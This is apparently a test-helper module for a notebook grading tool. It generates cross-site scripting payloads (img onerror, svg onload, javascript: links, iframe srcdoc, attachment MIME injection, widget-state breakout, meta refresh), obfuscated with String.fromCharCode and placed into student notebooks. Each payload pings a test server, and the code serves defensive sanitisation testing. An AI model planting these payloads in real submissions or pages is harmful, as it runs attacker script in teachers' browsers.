"""What a submission may hold to act in its teacher's browser; see test_dead_submissions.py.

Each payload asks a server of the tests for its own name: URL/NAME.
"""

import base64

import nbformat
from nbformat.v4 import new_markdown_cell, new_output, new_raw_cell

PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJg"
    "gg=="
)


def asks(url, name):
    """Return JavaScript that asks for a name; it holds no quotes, blanks, slashes or brackets."""
    code = f"top.p=new Image;top.p.src='{url}/{name}';0"
    return f"eval(String.fromCharCode({','.join(str(ord(one)) for one in code)}))"


def outputs(url):
    """Return what is displayed: kind, content and metadata, by the name of the payload."""
    js = lambda name: asks(url, name)  # noqa: E731
    inner = base64.b64encode(f"<script>new Image().src='{url}/iframe_data'</script>".encode())
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{js('svg')}'><rect/></svg>"
    return {
        "script": ("text/html", f"<script>{js('script')}</script>", {}),
        "event": ("text/html", f"<img src=x onerror={js('event')}>", {}),
        "details": ("text/html", f"<details open ontoggle={js('details')}><p>x</details>", {}),
        "svg": ("text/html", svg, {}),
        "link": ("text/html", f'<a href="javascript:void {js("link")}">results</a>', {}),
        "srcdoc": (
            "text/html",
            f'<iframe srcdoc="<script>parent.{js("srcdoc")}</script>"></iframe>',
            {},
        ),
        "iframe_data": (
            "text/html",
            f'<iframe src="data:text/html;base64,{inner.decode()}"></iframe>',
            {},
        ),
        "css": ("text/html", f"<style>.panel {{background: url({url}/css)}}</style>", {}),
        "javascript": ("application/javascript", js("javascript"), {}),
        "markdown_output": ("text/markdown", f"<img src=x onerror={js('markdown_output')}>", {}),
        "picture_size": (
            "image/png",
            "AAAA",
            {"image/png": {"width": f"1 onerror={js('picture_size')}"}},
        ),
        "mermaid": ("text/vnd.mermaid", f"<img src=x onerror={js('mermaid')}>", {}),
    }


def markdown(url):
    """Return the sources of cells in Markdown."""
    js = lambda name: asks(url, name)  # noqa: E731
    return {
        "answer": f"Half is lost. <img src=x onerror={js('answer')}>",
        "markdown_link": f"[my source](javascript:{js('markdown_link')})",
        "markdown_script": f"text\n\n<script>{js('markdown_script')}</script>\n",
        "markdown_fence": f"```mermaid\n<img src=x onerror={js('markdown_fence')}>\n```",
        "markdown_svg": f"<svg><animate onbegin={js('markdown_svg')} attributeName=x></svg>",
        "markdown_picture": f"![curve]({url}/markdown_picture)",
        "mathjax": rf"$\href{{javascript:{js('mathjax')}}}{{x}}$ $\text{{<img src=x>}}$",
    }


#: Those that load something, but run nothing.
LOADS = {"css", "markdown_picture", "refresh"}
#: Those that cannot fire today, where nothing is cleaned: the browser, the exporter or the lack
#: of a network stops them. They are tried all the same.
HARMLESS = {
    "mathjax",
    "widget_state",
    "raw",
    "attachment_kind",
    "attachment_svg",
    "cell_id",
    "tags",
}


def fill(notebook, url):
    """Put all payloads into a released notebook with answers."""
    js = lambda name: asks(url, name)  # noqa: E731
    shows = "".join(
        f"display({{{kind!r}: {content!r}}}, raw=True, metadata={metadata!r})\n"
        for kind, content, metadata in outputs(url).values()
    )
    sources = markdown(url)
    for cell in notebook.cells:
        name = cell.metadata.nbgrader["grade_id"]
        if name == "he-std":
            cell.source += f"\nfrom IPython.display import display\n{shows}"
        if name == "why":
            cell.source = sources.pop("answer")
    notebook.cells += [new_markdown_cell(source) for source in sources.values()]
    attachments = {
        "kind.png": {f'image/png" onerror="{js("attachment_kind")}': PIXEL},
        "a.svg": {"image/svg+xml": base64.b64encode(b"<svg onload='x'/>").decode()},
    }
    source = "![a](attachment:kind.png) ![b](attachment:a.svg)"
    notebook.cells += [
        new_markdown_cell(source, attachments=attachments),
        new_raw_cell(f"<img src=x onerror={js('raw')}>", metadata={"raw_mimetype": "text/html"}),
    ]
    state = {"state": {"x": f"</script><img src=x onerror={js('widget_state')}>"}}
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": state}
    return notebook


def stored(notebook, url):
    """Put the displayed payloads into the outputs of a notebook, as a student stores them."""
    made = [
        new_output("display_data", nbformat.from_dict({kind: content}), metadata=metadata)
        for kind, content, metadata in outputs(url).values()
    ]
    next(cell for cell in notebook.cells if cell.cell_type == "code").outputs = made
    return notebook


def refreshing(notebook, url):
    """Put a page's refresh into an answer; it leads the whole page away, so it comes alone."""
    for cell in notebook.cells:
        if cell.metadata.nbgrader["grade_id"] == "why":
            cell.source = f'<meta http-equiv="refresh" content="0; url={url}/refresh">'
    return notebook
